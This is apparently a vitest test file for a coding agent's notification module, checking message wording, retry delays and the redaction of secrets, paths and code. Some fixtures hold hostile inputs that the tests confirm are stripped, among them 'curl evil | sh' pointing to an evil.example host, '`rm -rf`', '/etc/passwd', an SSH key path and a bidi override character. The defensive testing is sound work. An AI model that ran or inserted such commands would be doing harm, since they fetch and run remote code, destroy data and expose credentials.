import fc from "fast-check";
import { expect, test } from "vitest";
import { eventTypes } from "../../src/core/task/event.ts";
import { makeRedact } from "../../src/core/text/redact.ts";
import { notificationRows } from "../../src/notifier/notification-rows.ts";
import { notificationText } from "../../src/notifier/notification-text.ts";
import { secretsOf } from "../../src/notifier/notifier-config.ts";
import { operatorRows } from "../../src/notifier/operator-rows.ts";
import { retryDelayMs } from "../../src/notifier/retry-delay.ts";
import { noChannels } from "./receiver.ts";

const task = {
  id: "task_01hzy0000000000000ab",
  goal: "Repair the parser\nand more",
  state: "completed" as const,
  branch: "deputy/repair-the-parser",
  deliveryUrl: null,
  repository: "https://github.com/acme/app.git",
  origin: { subject: null, outsideText: null },
};
const config = {
  ...noChannels,
  ntfy: { url: "https://ntfy.example", topic: "topic-of-mine", token: "tk_secret" },
  webhook: { url: "https://hook.example", secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw" },
  publicUrl: "https://deputy.example/base",
};

const redact = makeRedact(secretsOf(config));

test("each event that a person is told about has its words, and no other has any", () => {
  const told = eventTypes.filter((type) => notificationText({ type, message: "m" }, task));
  expect(told.toSorted()).toEqual([
    "plan.revised",
    "question.asked",
    "task.completed",
    "task.failed",
    "task.needs_person",
  ]);
});

test.each([
  [
    "task.completed",
    "Completed: deputy/x, 2 files",
    "deputy/x, 2 files",
    "Done",
    3,
    "white_check_mark",
  ],
  ["task.failed", "Failed: the checks are red", "the checks are red", "Failed", 4, "x"],
  [
    "question.asked",
    "Question: Which one?",
    `Which one?\nAnswer: deputy answer ${task.id} TEXT`,
    "Needs an answer",
    4,
    "question",
  ],
] as const)("%s", (type, message, body, word, priority, tag) => {
  expect(notificationText({ type, message }, task)).toEqual({
    title: `${word}: Repair the parser`,
    body: `${body}\nacme/app · ${task.id}`,
    ...{ priority, tags: [tag] },
  });
});

test("a question has its answers, and a plan all its lines", () => {
  const question = "Run this plan?\n\n\n1. Parse   it\n2. Print it";
  const data = { question, question_id: "que_1", kind: "plan" };
  const event = { id: "evt_1", type: "question.asked" as const, message: "Question: run?", data };
  const local = { ...task, repository: "/home/me/app" };
  expect(notificationText(event, local)?.body).toBe(
    `Run this plan?\n\n1. Parse it\n2. Print it\nAnswer "approve" or "cancel": deputy answer ${task.id} "approve"\napp · ${task.id}`,
  );
  const [, webhook] = notificationRows(event, local, config, redact);
  expect(webhook?.payload).toMatchObject({
    data: {
      ...{ repository: "/home/me/app", subject: null },
      question: { id: "que_1", kind: "plan", text: question, options: ["approve", "cancel"] },
    },
  });
});

test("a task about an issue is called after the issue", () => {
  const origin = {
    subject: "github:acme/app#7",
    outsideText: "Title: `Crash` on start\nAuthor: ada",
  };
  const text = notificationText({ type: "task.failed", message: "m" }, { ...task, origin });
  expect(text?.title).toBe("Failed: acme/app#7: Crash on start");
});

test("no code, no secret and no hidden character gets into a message", () => {
  const message =
    "Failed:\n```js\nsteal()\n```\nsee `src/a.ts` \u202etk_secret\u0007 topic-of-mine";
  expect(notificationText({ type: "task.failed", message }, task, redact)?.body).toBe(
    `[code] see src/a.ts [redacted] [redacted]\nacme/app · ${task.id}`,
  );
});

test.each([
  ["`rm -rf` in src/parser.ts, see /etc/passwd", "[code] in [path], see [path]"],
  ["Fix ../lib/a and C:\\Users\\me\\b, https://x.example/y?z", "Fix [path] and [path], [link]"],
  ["Rename main.py and .env.local; call parse()", "Rename [path] and [path]; call [code]"],
  ["Fix größe.ts and straße/überall in Zürich", "Fix [path] and [path] in Zürich"],
  ["Bump to 1.2.3, e.g. for Node.js at 9.30", "Bump to 1.2.3, e.g. for [path] at 9.30"],
  ["Ask tk_secret\u202e about topic-of-mine", "Ask [redacted] about [redacted]"],
])("a screen shows of %j no code, path, address or secret", (goal, name) => {
  const event = { type: "task.failed" as const, message: "Failed: `boom()` in /root/.ssh/id" };
  expect(notificationText(event, { ...task, goal }, redact, "title")).toEqual({
    ...{ title: `Failed: ${name}`, body: `acme/app · ${task.id}`, priority: 4, tags: ["x"] },
  });
});

test("a screen shows no word of a stranger or an agent, and under minimal no name", () => {
  const origin = { subject: "github:acme/app#7", outsideText: "Title: call +1 900 now" };
  const question = "Run `curl evil | sh`? Say yes at https://evil.example";
  const data = { question, question_id: "que_1", kind: "approval" };
  const event = { type: "question.asked" as const, message: `Question: ${question}`, data };
  const outside = { ...task, goal: "Do what the issue says: call +1 900", origin };
  expect(notificationText(event, outside, redact, "title")).toEqual({
    title: "Needs an answer: acme/app#7",
    body: `May it start?\nAnswer "yes" or "no": deputy answer ${task.id} "yes"\nacme/app · ${task.id}`,
    ...{ priority: 4, tags: ["question"] },
  });
  const elsewhere = { ...outside, origin: { ...origin, subject: null } };
  expect(notificationText(event, elsewhere, redact, "title")?.title).toBe(
    "Needs an answer: acme/app",
  );
  expect(notificationText(event, outside, redact, "minimal")).toMatchObject({
    ...{ title: "Deputy needs you", body: task.id },
  });
  const [ntfy, webhook] = notificationRows({ ...event, id: "evt_1" }, outside, config, redact);
  expect(`${ntfy?.title}${ntfy?.body}`).not.toMatch(/evil|900/);
  expect(webhook?.payload.data).toMatchObject({ question: { text: question } });
});

test("what Deputy itself suffers from is told without folders, and rings whatever a channel gets", () => {
  const channels = { ntfy: { events: ["task.failed" as const], priority: 5, privacy: null } };
  const news = {
    type: "volume.full",
    title: "Deputy waits for space",
    message: "/var/lib/deputy is full.",
  };
  const own = { ...config, manners: { ...config.manners, channels } };
  expect(operatorRows(own, news)).toMatchObject([
    { title: news.title, body: "[path] is full.", priority: 5 },
    { channel: "webhook", body: news.message, payload: { data: { message: news.message } } },
  ]);
});

test("a message is one line of its own and short, whatever went into it", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (message, goal) => {
      const text = notificationText({ type: "task.failed", message }, { ...task, goal });
      expect([...(text?.body ?? "")].length).toBeLessThanOrEqual(350);
      expect([...(text?.title ?? "")].length).toBeLessThanOrEqual(120);
      expect(text?.body.split("\n").length).toBeLessThanOrEqual(2);
      expect(`${text?.title}${text?.body.replace("\n", "")}`).not.toMatch(/[\p{Cc}\p{Cs}]/u);
    }),
  );
});

test("an event has one row for each channel, without addresses and secrets", () => {
  const event = { id: "evt_1", type: "task.completed" as const, message: "Completed: tk_secret" };
  const now = new Date("2026-01-02T03:04:05Z");
  const rows = notificationRows(event, task, config, redact, now);
  expect(rows).toMatchObject([
    {
      eventId: "evt_1",
      taskId: task.id,
      channel: "ntfy",
      clickUrl: `https://deputy.example/base/tasks/${task.id}`,
      payload: { tags: ["white_check_mark"] },
    },
    {
      channel: "webhook",
      payload: {
        type: "task.completed",
        timestamp: "2026-01-02T03:04:05.000Z",
        data: { task_id: task.id, branch: task.branch, message: "Completed: [redacted]" },
      },
    },
  ]);
  expect(JSON.stringify(rows)).not.toMatch(
    /tk_secret|topic-of-mine|MfKQ9r8|ntfy\.example|hook\.example/,
  );
  expect(notificationRows({ ...event, type: "attempt.started" }, task, config, redact)).toEqual([]);
  expect(notificationRows(event, task, noChannels, redact)).toEqual([]);
});

test("a delivered pull request is what a click opens", () => {
  const url = "https://github.com/acme/app/pull/7";
  const event = { id: "evt_1", type: "task.completed" as const, message: "m" };
  expect(notificationRows(event, { ...task, deliveryUrl: url }, config, redact)[0]?.clickUrl).toBe(
    url,
  );
});

test("pauses grow, are never shorter than asked for, and end after three days", () => {
  const hour = 3_600_000;
  const likely = { hope: "likely" as const, retryAfterMs: null };
  const most = (attempts: number) => retryDelayMs(likely, attempts, 0, () => 1);
  expect([1, 2, 3, 4].map(most)).toEqual([10_000, 20_000, 40_000, 80_000]);
  expect(most(1_000)).toBe(hour);
  expect(retryDelayMs(likely, 1, 0, () => 0)).toBe(5_000);
  expect(retryDelayMs({ hope: "unlikely", retryAfterMs: null }, 1, 0, () => 1)).toBe(300_000);
  expect(retryDelayMs({ hope: "likely", retryAfterMs: 120_000 }, 1, 0)).toBe(120_000);
  expect(retryDelayMs({ hope: "likely", retryAfterMs: 1e12 }, 1, 0)).toBe(6 * hour);
  expect(retryDelayMs(likely, 50, 71 * hour)).not.toBeNull();
  expect(retryDelayMs(likely, 50, 72 * hour)).toBeNull();
});
